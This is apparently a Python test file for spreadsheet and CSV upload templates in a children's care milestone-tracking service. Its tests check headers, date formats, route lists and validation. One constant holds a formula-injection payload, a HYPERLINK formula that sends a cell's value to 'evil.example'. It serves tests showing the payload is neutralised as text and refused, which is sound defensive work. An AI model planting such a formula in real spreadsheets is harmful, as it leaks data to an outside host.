"""Upload templates: what they contain, and that a filled-in template validates cleanly."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from measures.milestones.files import (
    DEFAULT_MILESTONES,
    DEFAULT_ROUTES,
    FileRefused,
    validate_milestone_file,
    wide_template_csv,
    wide_template_xlsx,
)
from measures.milestones.files.templates import TEMPLATE_ROWS

TODAY = date(2025, 6, 30)


def test_the_csv_template_is_a_header_row_excel_can_open():
    content = wide_template_csv(DEFAULT_MILESTONES)
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").strip()
    assert header.split(",")[:3] == [
        "child_ref",
        "route",
        "Child became looked after and accommodated",
    ]
    assert header.count("\r\n") == 0 and content.endswith(b"\r\n")


def test_the_filled_csv_template_matches_every_milestone():
    content = wide_template_csv(DEFAULT_MILESTONES) + b"C-1,home,01/03/2024,,,,,,,,\r\n"
    result = validate_milestone_file(content, "t.csv", DEFAULT_MILESTONES, DEFAULT_ROUTES, TODAY)
    assert set(result.matched_columns.values()) == {m.code for m in DEFAULT_MILESTONES}
    assert result.problems == []
    assert result.records[["child_ref", "milestone"]].values.tolist() == [["C-1", "looked_after"]]


@pytest.fixture(scope="module")
def template() -> bytes:
    return wide_template_xlsx(DEFAULT_MILESTONES, DEFAULT_ROUTES)


def test_the_xlsx_template_has_the_milestone_sheet_first_and_instructions(template):
    workbook = load_workbook(io.BytesIO(template))
    assert workbook.sheetnames == ["Milestones", "Instructions"]
    sheet = workbook["Milestones"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == ["child_ref", "route", *(m.name for m in DEFAULT_MILESTONES)]
    assert sheet.freeze_panes == "B2"


def test_each_milestone_header_carries_its_code_in_a_comment(template):
    sheet = load_workbook(io.BytesIO(template))["Milestones"]
    for column, milestone in enumerate(DEFAULT_MILESTONES, start=3):
        assert f"Milestone code: {milestone.code}" in sheet.cell(1, column).comment.text


def test_milestone_cells_are_date_formatted_for_the_template_rows(template):
    sheet = load_workbook(io.BytesIO(template))["Milestones"]
    last = TEMPLATE_ROWS + 1
    for column in range(3, 3 + len(DEFAULT_MILESTONES)):
        assert sheet.cell(2, column).number_format == "dd/mm/yyyy"
        assert sheet.cell(last, column).number_format == "dd/mm/yyyy"
    assert sheet.cell(2, 1).number_format == "@"  # references stay text


def test_the_route_column_offers_the_routes_as_a_list(template):
    sheet = load_workbook(io.BytesIO(template))["Milestones"]
    lists = [v for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert len(lists) == 1
    assert lists[0].formula1 == '"home,kinship,po,poa,adoption"'
    assert str(lists[0].sqref) == f"B2:B{TEMPLATE_ROWS + 1}"
    dates = [v for v in sheet.data_validations.dataValidation if v.type == "date"]
    assert str(dates[0].sqref) == f"C2:K{TEMPLATE_ROWS + 1}"


def test_the_instructions_say_what_not_to_enter(template):
    sheet = load_workbook(io.BytesIO(template))["Instructions"]
    text = "\n".join(str(row[0].value or "") for row in sheet.iter_rows()).lower()
    assert "do not enter" in text
    for forbidden in ("names", "dates of birth", "addresses", "postcodes", "chi numbers"):
        assert forbidden in text
    assert "dd/mm/yyyy" in text


def test_an_unfilled_template_is_refused_as_having_no_data(template):
    with pytest.raises(FileRefused, match="no data rows"):
        validate_milestone_file(template, "t.xlsx", DEFAULT_MILESTONES, DEFAULT_ROUTES, TODAY)


def test_a_filled_xlsx_template_round_trips_to_the_expected_records(template):
    workbook = load_workbook(io.BytesIO(template))
    sheet = workbook["Milestones"]
    sheet["A2"], sheet["B2"], sheet["C2"], sheet["D2"] = "C-1", "adoption", date(2024, 3, 1), None
    sheet["G2"] = date(2024, 9, 1)  # panel
    sheet["A3"], sheet["B3"], sheet["C3"] = "C-2", "home", date(2024, 5, 20)
    sheet["K3"] = date(2025, 2, 1)  # order granted
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = validate_milestone_file(buffer.getvalue(), "filled.xlsx", DEFAULT_MILESTONES, DEFAULT_ROUTES, TODAY)
    assert result.layout == "wide"
    assert result.rows == 2
    assert result.problems == []
    assert set(result.matched_columns.values()) == {m.code for m in DEFAULT_MILESTONES}
    assert [(row.child_ref, row.route, row.milestone, row.date.date()) for row in result.records.itertuples()] == [
        ("C-1", "adoption", "looked_after", date(2024, 3, 1)),
        ("C-1", "adoption", "panel", date(2024, 9, 1)),
        ("C-2", "home", "looked_after", date(2024, 5, 20)),
        ("C-2", "home", "order_granted", date(2025, 2, 1)),
    ]
    assert result.children.to_dict("records") == [
        {"child_ref": "C-1", "route": "adoption"},
        {"child_ref": "C-2", "route": "home"},
    ]


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


def test_a_milestone_named_like_a_formula_is_written_as_text_in_both_templates(cast):
    from measures.milestones.pathway import pathway_ensure_defaults
    from measures.models import Milestone
    from pace_hub.roles import Role

    pathway_ensure_defaults(cast.org)
    # Set directly: the pathway form refuses such names, but older data may hold one.
    Milestone.objects.filter(organisation=cast.org, code="panel").update(name=FORMULA_NAME)
    client = cast.client(Role.DATA)
    base = f"/o/{cast.org.slug}/measures/data/"
    workbook = load_workbook(io.BytesIO(client.get(base + "template.xlsx").content))
    headers = list(next(workbook["Milestones"].iter_rows(min_row=1, max_row=1)))
    cell = next(cell for cell in headers if "HYPERLINK" in str(cell.value))
    assert cell.data_type == "s" and cell.value == "'" + FORMULA_NAME
    csv_header = client.get(base + "template.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_header and ',"=HYPERLINK' not in csv_header and not csv_header.startswith("=")


def test_a_filled_template_with_a_guarded_header_still_matches_its_milestone():
    milestones = [*DEFAULT_MILESTONES[:4], type(DEFAULT_MILESTONES[0])("panel", FORMULA_NAME)]
    content = wide_template_csv(milestones) + b"C-1,,01/03/2024,,,,01/06/2024\r\n"
    result = validate_milestone_file(content, "t.csv", milestones, DEFAULT_ROUTES, TODAY)
    assert result.problems == []
    assert sorted(result.records["milestone"].tolist()) == ["looked_after", "panel"]


def test_the_pathway_refuses_milestone_names_that_start_like_a_formula_or_read_as_identifying(cast):
    from django.core.exceptions import ValidationError

    from measures.milestones.pathway import milestone_create

    with pytest.raises(ValidationError, match="formula"):
        milestone_create(organisation=cast.org, code="x", name=FORMULA_NAME, after=None)
    with pytest.raises(ValidationError, match="reads like a date of birth"):
        milestone_create(organisation=cast.org, code="y", name="Date of birth", after=None)
